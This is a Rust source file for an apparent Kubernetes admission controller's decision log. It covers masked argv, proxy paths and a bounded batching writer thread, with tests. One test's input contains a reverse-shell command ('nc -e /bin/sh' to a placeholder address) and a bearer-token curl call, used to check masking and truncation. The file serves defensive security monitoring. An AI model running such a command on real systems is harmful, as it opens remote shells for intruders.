//! The decision log: one JSON line per annotate or deny decision (or per decision, when asked),
//! with what an investigator needs: who, where, what ran, what was decided and why. Secrets in
//! argv and the proxy path are masked (`crate::mask`; findings come masked) and argv is cut at a
//! stated length; lines wait for the
//! writer thread in a buffer bounded in lines and in bytes, which it writes out in batches.

use std::io::Write;
use std::sync::Arc;

use parking_lot::{Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use kube::core::admission::AdmissionRequest;
use serde::Serialize;

use crate::admission::RawObject;
use crate::decision::{Decision, ExemptionHit, Finding};
use crate::subject::{Subject, SubjectBody};

#[derive(Serialize)]
struct Entry<'a> {
    time: String,
    uid: &'a str,
    user: Option<&'a str>,
    groups: &'a [String],
    namespace: Option<&'a str>,
    pod: Option<&'a str>,
    kind: &'a str,
    operation: Option<&'a str>,
    resource: &'a str,
    subresource: Option<&'a str>,
    container: Option<&'a str>,
    argv: Option<Vec<String>>,
    /// The original argv length in bytes, when the logged argv was cut.
    #[serde(skip_serializing_if = "Option::is_none")]
    argv_bytes: Option<usize>,
    stdin: Option<bool>,
    tty: Option<bool>,
    /// pods/proxy, services/proxy, nodes/proxy: the path requested (first 1024 bytes).
    #[serde(skip_serializing_if = "Option::is_none")]
    proxy_path: Option<String>,
    /// pods/portforward: the ports named, when the request names them.
    #[serde(skip_serializing_if = "Option::is_none")]
    ports: Option<&'a [i64]>,
    dry_run: bool,
    decision: &'a str,
    score: u32,
    /// The mode that applied to this kind of request.
    mode: &'a str,
    would_deny: bool,
    exemption: Option<&'a str>,
    #[serde(skip_serializing_if = "<[_]>::is_empty")]
    exemptions: &'a [ExemptionHit],
    findings: &'a [Finding],
}

/// Lines waiting for the writer thread; beyond this, lines are dropped and counted rather than
/// letting a stalled log pipe block the request path.
const QUEUE_LINES: usize = 16 * 1024;
/// Bytes waiting for the writer thread, whatever the number of lines.
const QUEUE_BYTES: usize = 8 * 1024 * 1024;
/// The writer waits this long after the first line of a batch, unless the batch reaches
/// `BATCH_BYTES` first: one write and one wake-up per batch instead of per line. Under load a
/// wake-up per line (a futex call and a context switch) cost more than the line itself.
const BATCH_DELAY: Duration = Duration::from_millis(5);
const BATCH_BYTES: usize = 64 * 1024;

/// What waits for the writer.
#[derive(Default)]
struct Pending {
    bytes: Vec<u8>,
    lines: usize,
    closed: bool,
}

#[derive(Default)]
struct Shared {
    pending: Mutex<Pending>,
    wake: Condvar,
}

/// Writes lines on a thread of its own, so a slow stdout never blocks a request.
pub struct DecisionLog {
    shared: Arc<Shared>,
    writer: Mutex<Option<JoinHandle<()>>>,
    all: bool,
    /// Counts lines dropped because the writer fell behind (a metric the server exports).
    dropped: prometheus::IntCounter,
}

/// Bytes of argv kept per argument and in total.
pub const MAX_ARG_BYTES: usize = 1024;
pub const MAX_ARGV_BYTES: usize = 4096;
const ELLIPSIS: &str = "…";

/// argv as the decision log keeps it (masked, each argument and the whole cut at a stated
/// length), and the original length in bytes when it was cut.
fn argv_for_log(argv: &[String]) -> (Vec<String>, Option<usize>) {
    let original: usize = argv.iter().map(String::len).sum();
    let mut kept = Vec::new();
    let mut total = 0usize;
    let mut cut = false;
    for masked in crate::mask::argv(argv) {
        let room = MAX_ARGV_BYTES.saturating_sub(total).min(MAX_ARG_BYTES);
        if room == 0 || (masked.len() > room && room < ELLIPSIS.len()) {
            cut = true;
            break;
        }
        // A cut argument ends in an ellipsis, which counts toward the limits.
        let piece = if masked.len() > room {
            cut = true;
            let mut end = room - ELLIPSIS.len();
            while !masked.is_char_boundary(end) {
                end -= 1;
            }
            format!("{}{ELLIPSIS}", &masked[..end])
        } else {
            masked
        };
        total += piece.len();
        kept.push(piece);
    }
    (kept, cut.then_some(original))
}

/// The writer thread: waits for a first line, gives the batch `BATCH_DELAY` to grow, writes it.
fn write_batches(shared: &Shared, out: &mut dyn Write) {
    let mut batch = Vec::new();
    loop {
        {
            let mut pending = shared.pending.lock();
            while pending.bytes.is_empty() && !pending.closed {
                shared.wake.wait(&mut pending);
            }
            if !pending.closed && pending.bytes.len() < BATCH_BYTES {
                shared.wake.wait_for(&mut pending, BATCH_DELAY);
            }
            if pending.bytes.is_empty() && pending.closed {
                return;
            }
            std::mem::swap(&mut batch, &mut pending.bytes);
            pending.lines = 0;
        }
        if let Err(e) = out.write_all(&batch).and_then(|_| out.flush()) {
            tracing::error!(error = %e, "cannot write the decision log");
        }
        batch.clear();
    }
}

impl DecisionLog {
    pub fn new(mut out: Box<dyn Write + Send>, all: bool, dropped: prometheus::IntCounter) -> Self {
        let shared = Arc::new(Shared::default());
        let writer = {
            let shared = shared.clone();
            std::thread::Builder::new()
                .name("decision-log".into())
                .spawn(move || write_batches(&shared, &mut *out))
                .ok()
        };
        DecisionLog {
            shared,
            writer: Mutex::new(writer),
            all,
            dropped,
        }
    }

    /// Writes out what is queued and stops the writer.
    pub fn close(&self) {
        self.shared.pending.lock().closed = true;
        self.shared.wake.notify_all();
        if let Some(handle) = self.writer.lock().take() {
            let _ = handle.join();
        }
    }

    /// Bytes waiting for the writer.
    #[cfg(test)]
    fn queued_bytes(&self) -> usize {
        self.shared.pending.lock().bytes.len()
    }

    pub fn record(
        &self,
        req: &AdmissionRequest<RawObject>,
        subject: &Subject,
        decision: &Decision,
    ) {
        // Without --log-all-decisions a plain allow is not logged; an allow with a finding is
        // (a score-0 rule such as `portforward-unseen-ports` exists to be recorded here), and so
        // is one an exemption decided.
        let exempted = !decision.effective_exemptions().is_empty();
        if !self.all
            && decision.action == crate::decision::Action::Allow
            && !decision.would_deny
            && !exempted
            && decision.findings.is_empty()
        {
            return;
        }
        let (container, argv, stdin, tty) = match &subject.body {
            SubjectBody::Exec(e) => (
                Some(e.container.as_str()),
                Some(argv_for_log(&e.command)),
                Some(e.stdin),
                Some(e.tty),
            ),
            SubjectBody::Attach(a) => {
                (Some(a.container.as_str()), None, Some(a.stdin), Some(a.tty))
            }
            _ => (None, None, None, None),
        };
        let (proxy_path, ports) = match &subject.body {
            SubjectBody::Proxy(p) => (
                Some(crate::mask::text(&crate::detect::shorten(&p.path, 1024)).into_owned()),
                None,
            ),
            SubjectBody::PortForward(f) => (None, Some(f.ports.as_slice())),
            _ => (None, None),
        };
        let time = time::OffsetDateTime::now_utc()
            .format(&time::format_description::well_known::Rfc3339)
            .unwrap_or_default();
        let entry = Entry {
            time,
            uid: &req.uid,
            user: req.user_info.username.as_deref(),
            groups: req.user_info.groups.as_deref().unwrap_or(&[]),
            namespace: req.namespace.as_deref(),
            pod: subject.name.as_deref(),
            kind: &subject.kind,
            operation: subject
                .operation
                .as_ref()
                .map(crate::subject::operation_name),
            resource: &req.resource.resource,
            subresource: subject.subresource.as_deref(),
            container,
            argv_bytes: argv.as_ref().and_then(|(_, cut)| *cut),
            argv: argv.map(|(kept, _)| kept),
            stdin,
            tty,
            proxy_path,
            ports,
            dry_run: subject.dry_run,
            decision: decision.action.as_str(),
            score: decision.score,
            mode: decision.mode.as_str(),
            would_deny: decision.would_deny,
            exemption: decision.exemption.as_deref(),
            exemptions: &decision.exemptions,
            findings: &decision.findings,
        };
        let Ok(mut line) = serde_json::to_vec(&entry) else {
            return;
        };
        line.push(b'\n');
        let mut pending = self.shared.pending.lock();
        if pending.closed
            || pending.lines >= QUEUE_LINES
            || pending.bytes.len() + line.len() > QUEUE_BYTES
        {
            self.dropped.inc();
            return;
        }
        let was_empty = pending.bytes.is_empty();
        pending.bytes.extend_from_slice(&line);
        pending.lines += 1;
        let full = pending.bytes.len() >= BATCH_BYTES;
        drop(pending);
        // The writer waits for the first line of a batch, and early for a full one.
        if was_empty || full {
            self.shared.wake.notify_one();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::mpsc::{channel, Receiver};

    #[test]
    fn long_argv_is_cut_and_its_length_kept() {
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        let long = "a".repeat(10_000);
        let (kept, cut) = argv_for_log(&args(&["sh", "-c", &long, "x", "y"]));
        assert_eq!(cut, Some(10_000 + 2 + 2 + 2));
        // The limits hold with the ellipsis counted.
        assert_eq!(kept[2].len(), MAX_ARG_BYTES);
        assert!(kept[2].ends_with(ELLIPSIS));
        let total: usize = kept.iter().map(String::len).sum();
        assert!(total <= MAX_ARGV_BYTES, "{total}");
        let wide = "é".repeat(3000);
        let (kept, _) = argv_for_log(&args(&[&wide]));
        assert!(kept[0].len() <= MAX_ARG_BYTES && kept[0].ends_with(ELLIPSIS));
        let many: Vec<String> = (0..5000).map(|i| format!("arg{i}")).collect();
        let (kept, cut) = argv_for_log(&many);
        assert!(cut.is_some());
        assert!(kept.iter().map(String::len).sum::<usize>() <= MAX_ARGV_BYTES);
        let (kept, cut) = argv_for_log(&args(&["mysql", "--password", "hunter22"]));
        assert_eq!((kept[2].as_str(), cut), (crate::mask::MASK, None));
    }

    /// A log output that blocks until told to go on, like a full pipe.
    struct Stalled(Mutex<Receiver<()>>, Arc<Mutex<Vec<u8>>>);

    impl Write for Stalled {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            let _ = self.0.lock().recv();
            self.1.lock().extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    /// A review judged by the default policy.
    fn judged(review: serde_json::Value) -> (AdmissionRequest<RawObject>, Subject, Decision) {
        let request = crate::admission::read_review(&serde_json::to_vec(&review).unwrap()).unwrap();
        let subject = crate::subject::from_request(&request).unwrap();
        let decision = crate::evaluate(&crate::policy::Policy::embedded_default(), &subject);
        (request, subject, decision)
    }

    /// A log whose output blocks until `go` is told to go on: what it wrote, and what it dropped.
    fn stalled_log() -> (
        DecisionLog,
        std::sync::mpsc::Sender<()>,
        Arc<Mutex<Vec<u8>>>,
        prometheus::IntCounter,
    ) {
        let (go, wait) = channel();
        let written = Arc::new(Mutex::new(Vec::new()));
        let dropped = prometheus::IntCounter::new("dropped", "dropped lines").unwrap();
        let log = DecisionLog::new(
            Box::new(Stalled(Mutex::new(wait), written.clone())),
            false,
            dropped.clone(),
        );
        (log, go, written, dropped)
    }

    fn reverse_shell_review() -> serde_json::Value {
        serde_json::from_str(include_str!("../../tests/corpus/exec-reverse-shell.json")).unwrap()
    }

    #[test]
    fn a_stalled_output_drops_and_counts_instead_of_blocking() {
        let (request, subject, decision) = judged(reverse_shell_review());
        let (log, go, written, dropped) = stalled_log();
        let sent = 3 * QUEUE_LINES;
        for _ in 0..sent {
            log.record(&request, &subject, &decision);
        }
        // At most one batch is in the writer's hands and one full queue waits: the rest were
        // dropped, and recording never blocked.
        assert!(
            dropped.get() >= (sent - 2 * QUEUE_LINES) as u64,
            "dropped {}",
            dropped.get()
        );
        for _ in 0..sent {
            let _ = go.send(());
        }
        drop(go);
        log.close();
        let written = written.lock();
        let lines = written
            .split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
            .count() as u64;
        assert_eq!(lines + dropped.get(), sent as u64);
        let first: serde_json::Value =
            serde_json::from_slice(written.split(|b| *b == b'\n').next().unwrap()).unwrap();
        assert_eq!(first["decision"], "deny");
        assert_eq!(first["uid"], "uid-exec-reverse-shell");
    }

    #[test]
    fn the_queue_is_bounded_in_bytes_and_lines_keep_argv_short_and_secrets_out() {
        let mut review = reverse_shell_review();
        // A bearer token and a 12 KiB script: each line is still only a few KiB.
        review["request"]["object"]["command"] = serde_json::json!([
            "sh",
            "-c",
            format!(
                "curl -H 'Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6' https://kubernetes.default/api; echo {}; nc -e /bin/sh 10.0.0.1 4444",
                "x".repeat(12 * 1024)
            ),
        ]);
        let (request, subject, decision) = judged(review);
        let (log, go, written, dropped) = stalled_log();
        let sent = 12_000;
        for _ in 0..sent {
            log.record(&request, &subject, &decision);
        }
        // Far fewer lines than QUEUE_LINES fit in QUEUE_BYTES.
        let queued = sent - dropped.get() as usize;
        assert!(queued < QUEUE_LINES / 2, "{queued} lines queued");
        assert!(log.queued_bytes() <= QUEUE_BYTES);
        for _ in 0..sent {
            let _ = go.send(());
        }
        drop(go);
        log.close();
        let written = written.lock();
        let first = written.split(|b| *b == b'\n').next().unwrap();
        let line = String::from_utf8_lossy(first);
        assert!(
            !line.contains("eyJhbGciOiJSUzI1NiIsImtpZCI6"),
            "the token leaked"
        );
        assert!(line.contains("[REDACTED]"));
        let entry: serde_json::Value = serde_json::from_slice(first).unwrap();
        let script = entry["argv"][2].as_str().unwrap();
        assert!(script.len() <= MAX_ARG_BYTES, "{}", script.len());
        assert!(entry["argv_bytes"].as_u64().unwrap() > 12 * 1024);
    }
}
